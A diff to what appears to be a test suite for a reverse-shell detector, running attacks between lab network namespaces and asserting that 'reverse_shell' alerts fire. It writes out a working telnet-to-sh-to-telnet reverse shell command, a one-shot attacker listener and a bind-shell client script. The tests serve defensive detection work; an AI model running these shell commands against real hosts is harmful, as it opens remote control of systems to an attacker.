@@ -128,22 +128,31 @@ def test_fifo_on_shell_stdin_relay(sensorlab, netlab, tmp_path) -> None:
             f"> {f}")
 
 
+# A one-shot attacker: accept one connection, type the payload, hang up after a second (a telnet client whose
+# stdout is a pipe shows what it received when the peer hangs up).
+ONE_SHOT = ("import socket,sys,time\ns=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\n"
+            "s.bind((sys.argv[1],int(sys.argv[2])));s.listen(1);s.settimeout(15)\nc,_=s.accept()\n"
+            "c.sendall(bytes.fromhex(sys.argv[3]));time.sleep(1.5);c.close()")
+
+
 def test_telnet_pair(sensorlab, netlab) -> None:
-    """`telnet H P1 | sh | telnet H P2`: commands from one connection, output to the other (telnet quits at
-    EOF on its stdin, so the first one's stdin is held open as an attacker's terminal would be)."""
+    """`telnet H P1 | sh | telnet H P2`: commands from one connection, output to the other."""
     need("telnet")
     out_port = next(_ports)
     sink = netlab.listen_tcp(netlab.attacker_ns, out_port, duration=15)
     port = next(_ports)
     host = netlab.attacker_ip4
-    listener = netlab.listen_tcp(netlab.attacker_ns, port, payload=PAYLOAD, duration=10)
+    # `sleep` keeps sh (and so the second telnet's stdin) open long enough for it to send the answer: netkit
+    # telnet quits at EOF on its stdin without flushing what it has not sent yet.
+    typed = b"echo cw-$((6*7))\nsleep 2\nexit\n"
+    netlab.spawn(netlab.attacker_ns, [sys.executable, "-c", ONE_SHOT, host, str(port), typed.hex()])
+    time.sleep(0.8)
     mark, emark = sensorlab.alert_mark(), sensorlab.mark()
-    command, token = tagged(f"sleep 6 | telnet {host} {port} 2>/dev/null | /bin/sh 2>&1 | telnet {host} {out_port} "
+    command, token = tagged(f"sleep 8 | telnet {host} {port} 2>/dev/null | /bin/sh 2>&1 | telnet {host} {out_port} "
                             ">/dev/null 2>&1")
-    netlab.spawn(netlab.victim_ns, ["timeout", "10", "bash", "-c", command],
+    netlab.spawn(netlab.victim_ns, ["timeout", "12", "bash", "-c", command],
                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-    assert b"cw-42" in sink.wait(timeout=15)
-    listener.wait(timeout=15)
+    assert b"cw-42" in sink.wait(timeout=20)
     groups = incidents(c2_alerts(mine(sensorlab.alerts_since(mark, settle=1.5), token)))
     assert len(groups) == 1
     hit = [a for a in next(iter(groups.values())) if "reverse_shell" in a["chainwatch"]["signals"]]
@@ -202,6 +211,27 @@ def test_relay_inside_npm_context(sensorlab, netlab, tmp_path) -> None:
 
 # ------------------------------------------------------------------ bind shells
 
+# The attacker types and waits for the answer without half-closing (ncat -e hangs up on EOF).
+ATTACKER_CLIENT = """
+import socket, sys, time
+try:
+    c = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=3)
+except OSError:
+    sys.exit(1)
+c.sendall(bytes.fromhex(sys.argv[3]))
+got, end = b"", time.time() + 4
+while b"cw-42" not in got and time.time() < end:
+    try:
+        d = c.recv(4096)
+    except OSError:
+        break
+    if not d:
+        break
+    got += d
+sys.stdout.buffer.write(got)
+"""
+
+
 def bind(sensorlab, netlab, command: str, *, family: int = 4, timeout: float = 15) -> dict:
     """Start a bind shell ({port}) in the victim; the attacker connects and runs the payload."""
     port = next(_ports)
@@ -213,7 +243,8 @@ def bind(sensorlab, netlab, command: str, *, family: int = 4, timeout: float = 1
     deadline = time.monotonic() + timeout
     got = b""
     while time.monotonic() < deadline and b"cw-42" not in got:
-        res = netlab.connect_tcp(netlab.attacker_ns, victim, port, PAYLOAD, timeout=4)
+        res = netlab.run(netlab.attacker_ns, [sys.executable, "-c", ATTACKER_CLIENT, victim, str(port), PAYLOAD.hex()],
+                         timeout=10)
         got = res.stdout or b""
         if b"cw-42" not in got:
             time.sleep(0.3)
